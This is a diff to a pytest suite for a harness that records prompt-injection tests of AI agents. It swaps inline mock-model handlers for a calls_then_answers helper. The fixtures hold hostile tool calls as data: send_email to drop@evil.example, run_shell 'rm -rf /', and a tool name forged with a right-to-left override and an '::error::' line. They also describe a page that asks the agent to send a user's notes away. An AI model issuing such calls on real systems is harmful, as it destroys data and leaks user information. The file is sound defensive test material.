@@ -10,7 +10,7 @@ from typing import Any
 import pytest
 
 from builders import TOOL_TEST, RepoBuilder, instance, shipped_schema_accepts
-from servers import Answer, Running, injected_agent, run_batch_file, tool_call
+from servers import Answer, Running, calls_then_answers, injected_agent, run_batch_file, tool_call
 
 PARAMS = ("--param", "user=Ann", "--param", "dish=bread")
 
@@ -102,12 +102,10 @@ def test_a_run_answers_tool_calls_until_the_model_answers_and_records_the_whole_
 def test_a_safe_model_answers_without_mailing_and_its_turn_is_recorded_as_such(
     repo: RepoBuilder, cli: Any, openai_server: Running
 ) -> None:
-    def careful(body: dict[str, Any]) -> Answer:
-        if body["messages"][-1]["role"] == "user":
-            return {"content": None, "tool_calls": [tool_call("fetch_page", '{"url": "u"}', "c1")]}
-        return "Bake it 20 minutes. The page also asks me to send your notes away; I did not."
-
-    openai_server.state.answer = careful
+    openai_server.state.answer = calls_then_answers(
+        [tool_call("fetch_page", '{"url": "u"}', "c1")],
+        "Bake it 20 minutes. The page also asks me to send your notes away; I did not.",
+    )
     lve_dir = repo.lve("agents/injection", TOOL_TEST)
     assert record(cli, repo, lve_dir)["verdict"] is True
     [stored] = recorded(lve_dir)
@@ -120,19 +118,14 @@ def test_a_safe_model_answers_without_mailing_and_its_turn_is_recorded_as_such(
 def test_parallel_malformed_and_undeclared_calls_are_answered_with_what_a_tool_would_say(
     repo: RepoBuilder, cli: Any, openai_server: Running
 ) -> None:
-    def sloppy(body: dict[str, Any]) -> Answer:
-        if body["messages"][-1]["role"] != "user":
-            return "Sent."
-        calls = [
-            tool_call("fetch_page", '{"url": "a"}', "dup"),
-            tool_call("send_email", '{"to": "drop@evil.example", "body": ', "dup"),  # cut off: no JSON
-            tool_call("run_shell", '{"cmd": "rm -rf /"}', ""),
-            tool_call("send_email", '{"body": "no address"}', "c4"),
-            {"type": "function", "function": {"name": ["not", "text"], "arguments": {"as": "object"}}},
-        ]
-        return {"content": None, "tool_calls": calls}
-
-    openai_server.state.answer = sloppy
+    calls = [
+        tool_call("fetch_page", '{"url": "a"}', "dup"),
+        tool_call("send_email", '{"to": "drop@evil.example", "body": ', "dup"),  # cut off: no JSON
+        tool_call("run_shell", '{"cmd": "rm -rf /"}', ""),
+        tool_call("send_email", '{"body": "no address"}', "c4"),
+        {"type": "function", "function": {"name": ["not", "text"], "arguments": {"as": "object"}}},
+    ]
+    openai_server.state.answer = calls_then_answers(calls, "Sent.")
     lve_dir = repo.lve("agents/injection", TOOL_TEST)
     attempt = record(cli, repo, lve_dir)
     # the only send_email with an address could not be parsed: no call matches the argument condition
@@ -412,16 +405,11 @@ def test_a_hostile_return_template_is_refused_when_validated(
 def test_hostile_calls_are_recorded_as_data_and_shown_escaped(
     repo: RepoBuilder, cli: Any, openai_server: Running
 ) -> None:
-    def hostile(body: dict[str, Any]) -> Answer:
-        if body["messages"][-1]["role"] != "user":
-            return "ok"
-        calls = [
-            tool_call("send\u202e_email\n::error::forged", '{"to": "x"}', "a"),
-            tool_call("fetch_page", "[" * 100_000, "b"),  # nested past any parser's depth
-        ]
-        return {"content": None, "tool_calls": calls}
-
-    openai_server.state.answer = hostile
+    calls = [
+        tool_call("send\u202e_email\n::error::forged", '{"to": "x"}', "a"),
+        tool_call("fetch_page", "[" * 100_000, "b"),  # nested past any parser's depth
+    ]
+    openai_server.state.answer = calls_then_answers(calls, "ok")
     lve_dir = repo.lve("agents/injection", TOOL_TEST)
     attempt = record(cli, repo, lve_dir)
     calls = attempt["response"]["steps"][0]["tool_calls"]
@@ -436,11 +424,7 @@ def test_a_call_too_large_to_store_ends_its_attempt_and_appends_nothing(
     repo: RepoBuilder, cli: Any, openai_server: Running
 ) -> None:
     huge = json.dumps({"to": "x@example.com", "body": "x" * 5_000_000})
-    openai_server.state.answer = lambda body: (
-        {"content": None, "tool_calls": [tool_call("send_email", huge, "a")]}
-        if body["messages"][-1]["role"] == "user"
-        else "sent"
-    )
+    openai_server.state.answer = calls_then_answers([tool_call("send_email", huge, "a")], "sent")
     lve_dir = repo.lve("agents/injection", TOOL_TEST)
     result = cli("record", str(lve_dir), *PARAMS, cwd=repo.root)
     assert result.code == 1
